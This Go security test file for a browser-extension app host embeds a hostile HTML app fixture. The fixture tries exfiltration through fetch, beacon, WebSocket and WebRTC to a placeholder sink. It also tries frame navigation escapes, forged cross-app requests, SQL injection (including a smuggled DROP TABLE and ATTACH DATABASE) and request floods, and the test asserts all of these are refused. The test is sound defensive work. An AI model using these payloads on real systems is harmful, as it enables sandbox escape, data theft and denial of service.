package test

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/dsh-browser/broker/snug/apps"
	"github.com/dsh-browser/broker/snug/samples"
	"github.com/dsh-browser/broker/snug/userdb"
	"github.com/dsh-browser/broker/test/harness/chromium"
	"github.com/dsh-browser/broker/test/harness/stack"
)

// sink counts everything that reaches it on loopback: HTTP requests (and
// WebSocket upgrades), TCP connections, and UDP datagrams (WebRTC's STUN).
type sink struct {
	http *httptest.Server
	udp  net.PacketConn

	mu    sync.Mutex
	hits  []string
	conns int
	udps  int
}

func newSink(t *testing.T) *sink {
	s := &sink{}
	s.http = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.hits = append(s.hits, r.Method+" "+r.URL.Path)
		s.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Write([]byte("ok"))
	}))
	s.http.Config.ConnState = func(_ net.Conn, st http.ConnState) {
		if st == http.StateNew {
			s.mu.Lock()
			s.conns++
			s.mu.Unlock()
		}
	}
	s.http.Start()
	t.Cleanup(s.http.Close)
	var err error
	if s.udp, err = net.ListenPacket("udp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.udp.Close() })
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := s.udp.ReadFrom(buf); err != nil {
				return
			}
			s.mu.Lock()
			s.udps++
			s.mu.Unlock()
		}
	}()
	return s
}

func (s *sink) origin() string { return s.http.URL }
func (s *sink) udpPort() int   { return s.udp.LocalAddr().(*net.UDPAddr).Port }

// nothing fails the test if anything reached the sink.
func (s *sink) nothing(t *testing.T, what string) {
	t.Helper()
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.hits) > 0 || s.conns > 0 || s.udps > 0 {
		t.Fatalf("%s: the app reached the network: %d HTTP requests %v, %d TCP connections, %d UDP datagrams", what, len(s.hits), s.hits, s.conns, s.udps)
	}
}

// hostileApp tries every way out of its sandbox it can think of, and
// every frame trick against its host, and records what happened in
// window.probes and window.frames2.
const hostileApp = `<!doctype html><title>Hostile</title>
<style>@import url("@SINK@/css-import"); body { background: url("@SINK@/css-url"); }
@font-face { font-family: x; src: url("@SINK@/font"); } p { font-family: x; }</style>
<link rel="stylesheet" href="@SINK@/css-link">
<link rel="prefetch" href="@SINK@/prefetch">
<link rel="preload" as="fetch" href="@SINK@/preload">
<script src="@SINK@/script-src"></script>
<img src="@SINK@/img-tag">
<iframe src="@SINK@/child-frame"></iframe>
<object data="@SINK@/object"></object>
<video src="@SINK@/video"></video>
<p>hostile</p>
<script>
(function () {
  const SINK = '@SINK@';
  const probes = window.probes = {};
  const frames = window.frames2 = {};
  const attempt = async (name, fn) => {
    try { probes[name] = 'allowed: ' + String(await fn()); }
    catch (e) { probes[name] = 'refused: ' + (e && (e.name || e.message) || e); }
  };
  const later = (ms) => new Promise((r) => setTimeout(r, ms));
  const timeout = (p, ms) => Promise.race([p, later(ms).then(() => { throw new Error('timeout'); })]);

  // A little Snug client.
  let instanceId = null, n = 0;
  const pending = new Map();
  addEventListener('message', (e) => {
    if (e.source !== parent || !e.data || e.data.v !== 1) return;
    const f = e.data;
    if (f.type === 'snug:host-ready') { if (!instanceId) { instanceId = f.instanceId; start(); } return; }
    const p = pending.get(f.requestId);
    if (p && !(f.type === 'snug:app-response' && f.streaming)) { pending.delete(f.requestId); p(f); }
  });
  const post = (f) => parent.postMessage(f, '*');
  const ask = (f, ms) => timeout(new Promise((res) => { pending.set(f.requestId, res); post(f); }), ms || 20000);
  const db = (fields, id) => ask(Object.assign({ v: 1, type: 'snug:db-request', requestId: id || ('h' + (++n)), instanceId }, fields));
  const code = (f) => f.ok ? 'ok' : f.error.code;

  async function start() {
    await attempt('fetch', () => fetch(SINK + '/fetch').then((r) => r.status));
    await attempt('fetch-no-cors', () => fetch(SINK + '/fetch2', { mode: 'no-cors' }).then((r) => r.type));
    await attempt('xhr', () => new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open('GET', SINK + '/xhr'); x.onload = () => res(x.status); x.onerror = () => rej(new TypeError('xhr error')); x.send(); }));
    await attempt('websocket', () => timeout(new Promise((res, rej) => { const w = new WebSocket(SINK.replace('http', 'ws') + '/ws'); w.onopen = () => res('open'); w.onerror = () => rej(new TypeError('ws error')); }), 3000));
    await attempt('eventsource', () => timeout(new Promise((res, rej) => { const s = new EventSource(SINK + '/sse'); s.onopen = () => res('open'); s.onerror = () => { s.close(); rej(new TypeError('sse error')); }; }), 3000));
    await attempt('image', () => timeout(new Promise((res, rej) => { const i = new Image(); i.onload = () => res('loaded'); i.onerror = () => rej(new TypeError('img error')); i.src = SINK + '/img?leak=' + encodeURIComponent(document.title); }), 3000));
    await attempt('beacon', () => navigator.sendBeacon(SINK + '/beacon', 'secret'));
    await attempt('dynamic-import', () => import(SINK + '/import.js'));
    await attempt('blob-worker', () => timeout(new Promise((res, rej) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => res('ran'); w.onerror = () => rej(new TypeError('worker error')); }), 3000));
    await attempt('eval', () => eval('1 + 1'));
    await attempt('new-function', () => new Function('return 1')());
    await attempt('cookie', () => { document.cookie = 'a=b'; return document.cookie; });
    await attempt('localStorage', () => { localStorage.setItem('a', 'b'); return localStorage.getItem('a'); });
    await attempt('sessionStorage', () => sessionStorage.getItem('a'));
    await attempt('indexedDB', () => timeout(new Promise((res, rej) => { const r = indexedDB.open('x'); r.onsuccess = () => res('open'); r.onerror = () => rej(r.error); }), 3000));
    await attempt('caches', () => caches.open('x').then(() => 'open'));
    await attempt('window.open', () => { const w = window.open(SINK + '/popup'); if (!w) throw new TypeError('null window'); return 'a window'; });
    await attempt('top.location', () => { top.location = SINK + '/top'; return 'navigated'; });
    await attempt('parent.document', () => parent.document.title);
    await attempt('chrome.runtime', () => { if (typeof chrome === 'undefined' || !chrome.runtime || !chrome.runtime.sendMessage) throw new TypeError('absent'); return 'present'; });
    await attempt('form-blank', () => { const f = document.createElement('form'); f.method = 'post'; f.action = SINK + '/form'; f.target = '_blank'; document.body.append(f); f.submit(); return 'submitted'; });
    await attempt('a-top', () => { const a = document.createElement('a'); a.href = SINK + '/a-top'; a.target = '_top'; document.body.append(a); a.click(); return 'clicked'; });
    await attempt('a-blank', () => { const a = document.createElement('a'); a.href = SINK + '/a-blank'; a.target = '_blank'; document.body.append(a); a.click(); return 'clicked'; });
    await attempt('alert', () => { alert('x'); return 'shown'; });
    await attempt('webtransport', () => timeout(new WebTransport('https://127.0.0.1:@UDPPORT@/wt').Ready.then(() => 'open'), 3000));
    await attempt('child-frame', () => { const f = document.createElement('iframe'); f.src = SINK + '/child-dynamic'; document.body.append(f); return 'appended'; });
    await attempt('webrtc-child', () => { const f = document.createElement('iframe'); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection; });
    await attempt('webrtc', async () => {
      const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:@UDPPORT@' }] });
      pc.createDataChannel('x');
      await pc.setLocalDescription(await pc.createOffer());
      await later(2000);
      const state = pc.iceGatheringState;
      pc.close();
      return state;
    });

    // Frame tricks, answered (or not) by the host. The test hands over the
    // victim's instanceId first.
    while (!window.victimInstance) await later(50);
    frames.malformed = code(await db({ op: 'drop' }, 'bad-1'));
    frames.version = code(await ask({ v: 2, type: 'snug:db-request', requestId: 'v2-1', instanceId, op: 'kvGet', key: 'k' }));
    frames.forged = await ask({ v: 1, type: 'snug:db-request', requestId: 'forged-1', instanceId: window.victimInstance,
      op: 'exec', sql: "INSERT INTO notes (title, body, created) VALUES ('forged', '', '')" }, 3000).then(code, (e) => e.message);
    frames.over = code(await ask({ v: 1, type: 'snug:db-request', requestId: 'over-1', instanceId, op: 'kvSet', key: 'k',
      value: 'x'.repeat(8 * 1024 * 1024) }));
    frames.huge = await ask({ v: 1, type: 'snug:db-request', requestId: 'huge-1', instanceId, op: 'kvSet', key: 'k',
      value: 'x'.repeat(10 * 1024 * 1024) }, 5000).then(code, (e) => e.message);
    const sql = {};
    for (const q of ['SELECT * FROM notes', 'SELECT * FROM snug_secrets', 'SELECT * FROM snug_settings', 'SELECT * FROM snug_apps',
      'SELECT * FROM "app_@VICTIMTOKEN@__notes"', "ATTACH DATABASE '@USERDB@' AS u", 'PRAGMA writable_schema = 1',
      "SELECT name FROM sqlite_master", "SELECT load_extension('x')", 'VACUUM INTO \'/tmp/x.db\'']) {
      const f = await db({ op: 'exec', sql: q });
      sql[q] = f.ok ? 'rows ' + JSON.stringify(f.rows) : f.error.code;
    }
    frames.sql = sql;
    frames.evil = code(await db({ op: 'exec', sql: 'CREATE TABLE "evil""; DROP TABLE snug_secrets;--" (x)' }));
    // Nine slow requests at once: the ninth is refused.
    const slow = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 200000) SELECT count(*) FROM c";
    frames.nine = (await Promise.all(Array.from({ length: 9 }, (_, i) => db({ op: 'exec', sql: slow }, 'slow-' + i)))).map(code);
    // A flood: every request gets one answer, ok or refused.
    const flood = await Promise.all(Array.from({ length: 2000 }, (_, i) => db({ op: 'kvGet', key: 'k' }, 'flood-' + i).then(code, (e) => e.message)));
    frames.flood = flood.reduce((m, c) => (m[c] = (m[c] || 0) + 1, m), {});
    probes.done = 'yes';
  }
  post({ v: 1, type: 'snug:app-announce', appId: 'notebook-impostor', displayName: 'Hostile' });
})();
</script>`

// navApp navigates its own frame off the extension in one way each.
var navApps = map[string]string{
	"location": `<script>setTimeout(() => { location.href = '@SINK@/nav-location'; }, 1500); document.documentElement.dataset.ready = 'nav';</script>`,
	"meta":     `<meta http-equiv="refresh" content="2;url=@SINK@/nav-meta"><script>document.documentElement.dataset.ready = 'nav';</script>`,
	"form":     `<form method="post" action="@SINK@/nav-form"></form><script>document.documentElement.dataset.ready = 'nav'; setTimeout(() => document.forms[0].submit(), 1500);</script>`,
	"link":     `<a href="@SINK@/nav-link">x</a><script>document.documentElement.dataset.ready = 'nav'; setTimeout(() => document.links[0].click(), 1500);</script>`,
	"blob":     `<script>document.documentElement.dataset.ready = 'nav'; setTimeout(() => { location.href = URL.createObjectURL(new Blob(['<img src="@SINK@/nav-blob">'], { type: 'text/html' })); }, 1500);</script>`,
	"data":     `<script>document.documentElement.dataset.ready = 'nav'; setTimeout(() => { location.href = 'data:text/html,<img src="@SINK@/nav-data">'; }, 1500);</script>`,
}

// TestSnugHostileApps: an app that tries to reach the network, the user's
// other tabs and storage, and tricks its host with forged, malformed,
// oversize and flooding frames and SQL aimed at other apps and the hub,
// gets nowhere — measured at a loopback sink that counts every request,
// in the page, and in the database — and the host keeps serving another
// app throughout.
func TestSnugHostileApps(t *testing.T) {
	s := stack.Start(t)
	sk := newSink(t)
	fill := func(html string) string {
		return strings.NewReplacer("@SINK@", sk.origin(), "@UDPPORT@", fmt.Sprint(sk.udpPort())).Replace(html)
	}
	// The victim: the sample app, with a note.
	nbApp := snugCall[apps.Saved](t, s, apps.MethodInstall, map[string]any{"html": samples.Notebook})
	nb := s.OpenApp(t, nbApp.App.ID, "document.body.dataset.ready")
	chromium.Eval[any](t, s.Browser, nb.Frame, `notebook.add('mine', 'private')`)
	snugCall[apps.Agent](t, s, apps.MethodAgentSet, apps.AgentSetParams{Provider: apps.AgentOpenAI, Endpoint: "http://127.0.0.1:9/v1", Key: "sk-victim-secret"})

	html := strings.NewReplacer("@VICTIMTOKEN@", userdb.AppDataToken(nbApp.App.ID),
		"@USERDB@", s.B.StateDir+"/user.snug").Replace(fill(hostileApp))
	hostile := snugCall[apps.Saved](t, s, apps.MethodInstall, map[string]any{"html": html})
	// The impostor learns the victim's instanceId (as if leaked) before
	// it starts.
	h := s.OpenApp(t, hostile.App.ID, "document.title")
	chromium.Eval[any](t, s.Browser, h.Frame, fmt.Sprintf(`window.victimInstance = %q`, nb.Ready))
	deadline := time.Now().Add(180 * time.Second)
	for chromium.Eval[string](t, s.Browser, h.Frame, `String(window.probes && window.probes.done)`) != "yes" {
		if time.Now().After(deadline) {
			t.Fatalf("the probes never finished: %s", chromium.Eval[string](t, s.Browser, h.Frame, `JSON.stringify(window.probes)`))
		}
		time.Sleep(200 * time.Millisecond)
	}
	var probes map[string]string
	json.Unmarshal([]byte(chromium.Eval[string](t, s.Browser, h.Frame, `JSON.stringify(window.probes)`)), &probes)
	var frames struct {
		Malformed, Version, Forged, Over, Huge, Evil string
		SQL                                          map[string]string
		Nine                                         []string
		Flood                                        map[string]int
	}
	json.Unmarshal([]byte(chromium.Eval[string](t, s.Browser, h.Frame, `JSON.stringify(window.frames2)`)), &frames)
	t.Logf("probes: %v", probes)
	t.Logf("frames: %+v", frames)

	// In the page: every way out refused.
	for name, want := range map[string]string{
		"fetch": "refused", "fetch-no-cors": "refused", "xhr": "refused", "websocket": "refused", "eventsource": "refused",
		"image": "refused", "dynamic-import": "refused", "blob-worker": "refused", "eval": "refused", "new-function": "refused",
		"cookie": "refused", "localStorage": "refused", "sessionStorage": "refused", "indexedDB": "refused", "caches": "refused",
		"window.open": "refused", "top.location": "refused", "parent.document": "refused", "chrome.runtime": "refused",
		"webrtc": "refused", "webrtc-child": "refused", "webtransport": "refused",
	} {
		if !strings.HasPrefix(probes[name], want) {
			t.Errorf("%s: %s, want %s", name, probes[name], want)
		}
	}
	// The host's answers.
	switch {
	case frames.Malformed != "MALFORMED", frames.Version != "UNSUPPORTED_VERSION":
		t.Errorf("malformed frames: %q %q", frames.Malformed, frames.Version)
	case frames.Forged != "timeout":
		t.Errorf("a request with another app's instanceId was answered: %q", frames.Forged)
	case frames.Over != "HOST_ERROR":
		t.Errorf("a db frame over 8 MiB: %q", frames.Over)
	case frames.Huge != "timeout":
		t.Errorf("a message past the relay bound was answered: %q", frames.Huge)
	case frames.Evil != "USERDB_INVALID_NAME":
		t.Errorf("a hostile table name: %q", frames.Evil)
	}
	for q, got := range frames.SQL {
		if q == "SELECT name FROM sqlite_master" {
			if strings.Contains(got, "notes") || strings.Contains(got, "snug_") || strings.Contains(got, "app_") {
				t.Errorf("%s shows what is not the app's: %s", q, got)
			}
			continue
		}
		if strings.HasPrefix(got, "rows") || got == "ok" {
			t.Errorf("%s: %s", q, got)
		}
	}
	if refused := count(frames.Nine, "HOST_ERROR"); refused != 1 || count(frames.Nine, "ok") != 8 {
		t.Errorf("nine requests at once: %v", frames.Nine)
	}
	if frames.Flood["ok"]+frames.Flood["HOST_ERROR"] != 2000 || frames.Flood["HOST_ERROR"] == 0 {
		t.Errorf("a flood of 2000: %v", frames.Flood)
	}
	if !strings.Contains(chromium.Eval[string](t, s.Browser, h.Runner, `document.getElementById('notice').textContent`), "dropped") {
		t.Error("the runner did not say it dropped the huge message")
	}

	// Navigation off the extension, one app for each way.
	for name, nav := range navApps {
		a := snugCall[apps.Saved](t, s, apps.MethodInstall, map[string]any{"html": fill(nav), "displayName": "nav " + name})
		s.OpenApp(t, a.App.ID, "document.documentElement.dataset.ready")
	}
	time.Sleep(3 * time.Second) // let the navigations and any beacon land

	// Nothing reached the network.
	sk.nothing(t, "hostile apps")

	// The host kept serving the victim, whose data is intact: no forged
	// row; the hub's secrets are still there.
	chromium.Eval[any](t, s.Browser, nb.Frame, `notebook.add('after the storm', '')`)
	st := notebook(t, s, nb)
	if len(st.Notes) != 2 || st.Notes[0].Title != "mine" || st.Notes[1].Title != "after the storm" {
		t.Fatalf("the victim's notes: %+v", st.Notes)
	}
	if a := snugCall[apps.Agent](t, s, apps.MethodAgentGet, map[string]any{}); !a.HasKey {
		t.Fatal("the hub's secret is gone")
	}
}

func count(list []string, v string) int {
	n := 0
	for _, x := range list {
		if x == v {
			n++
		}
	}
	return n
}
